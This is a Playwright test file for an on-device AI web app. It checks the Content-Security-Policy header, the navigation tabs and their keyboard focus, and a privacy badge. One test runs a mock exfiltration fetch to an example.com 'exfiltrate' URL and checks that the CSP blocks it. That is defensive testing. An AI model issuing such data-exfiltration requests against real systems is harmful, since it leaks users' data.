import { expect, test } from '@playwright/test';

test.describe('app shell', () => {
  test('shows the tabs, the privacy badge and a CSP that only allows the page and model hosts', async ({ page }) => {
    const response = await page.goto('/');
    const header = response?.headers()['content-security-policy'] ?? '';
    expect(header).toContain("connect-src 'self' https://huggingface.co");
    const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(meta).toBe(header);
    expect(meta).not.toContain('%VITE_CSP%');

    const nav = page.getByRole('navigation', { name: 'Pages' });
    for (const name of ['Classify', 'Memories', 'Chat', 'Models', 'Benchmark']) {
      await expect(nav.getByRole('link', { name })).toBeVisible();
    }
    await expect(page.getByTestId('privacy-badge')).toHaveText(/On-device · 0 network requests with your data/);
  });

  test('tabs are reachable by keyboard and move focus to the page', async ({ page }) => {
    await page.goto('/');
    await page.getByRole('link', { name: 'Memories' }).focus();
    await page.keyboard.press('Enter');
    await expect(page).toHaveURL(/#\/memories$/);
    await expect(page.getByRole('heading', { level: 1, name: 'Memories' })).toBeVisible();
    await expect(page.locator('main')).toBeFocused();
  });

  test('the CSP blocks a request to another host, and the badge counts it', async ({ page }) => {
    await page.goto('/');
    const blocked = await page.evaluate(async () => {
      try { await fetch('https://example.com/exfiltrate?data=secret'); return false; } catch { return true; }
    });
    expect(blocked).toBe(true);
    await page.getByTestId('privacy-badge').click();
    await expect(page.getByTestId('tally-blocked')).toHaveText('1');
    await expect(page.getByTestId('tally-other')).toHaveText('0');
  });
});
